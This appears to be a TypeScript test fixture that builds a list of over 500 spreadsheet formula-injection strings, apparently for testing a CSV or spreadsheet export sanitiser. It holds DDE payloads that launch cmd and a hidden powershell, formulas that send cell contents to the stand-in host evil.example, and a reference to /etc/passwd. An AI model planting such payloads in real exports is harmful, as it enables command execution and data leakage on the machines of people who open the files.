/** What has been used, or could be, to make a spreadsheet run what a person wrote. */
const formulas = [
  "cmd|' /C calc'!A0",
  "cmd|'/c powershell -w hidden'!_xlbgnm.A1",
  'HYPERLINK("http://evil.example?x="&A1;"Klicka här")',
  'IMPORTXML(CONCAT("http://evil.example/?v=";A1);"//a")',
  'WEBSERVICE("http://evil.example/"&A1)',
  'DDE("cmd";"/C calc";"x")',
  'SUM(1+1)*cmd|calc!A0',
  '1+1',
  '"&A1&"',
  '\u0338SUM(A1:A9)',
  "'file:///etc/passwd'#$passwd.A1",
  'rad 1\r\n=1+1;=2+2',
  'å;"ä";ö\n"=1+1"',
] as const;

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'] as const;

/** What a spreadsheet, or an import into one, may take away or pass over. */
const before = ['', ' ', '"', '\t', '\r', '\n'] as const;
const oddBefore = [
  ...['\r\n', '   ', ' " ', '""', '\u00a0', '\u3000', '\u2003', '\u200b', '\ufeff', '\u00ad', '\u202e', '\u200e', '\u2060'],
  ...['\u180e', '\u034f', '\u3164', '\ufe0f', '\0', '\v', '\f', '“', '”', '„', '«', '»', '‘', '’', '`', '´', '\u200d"\u00a0'],
] as const;

/** More than 500: every sign with every formula, plain and disguised. */
export const injections: readonly string[] = [
  ...signs.flatMap((sign) => before.flatMap((lead) => formulas.map((formula) => lead + sign + formula))),
  ...signs.flatMap((sign) => oddBefore.map((lead) => `${lead}${sign}SUM(1;1)`)),
  ...[
    '\tcmd',
    '\rcmd',
    '\ncmd',
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '==',
    '-5',
    '+46 70 123 45 67',
    '@Anna',
    '- punkt',
    '⁼1+1',
    '₊1',
  ],
];
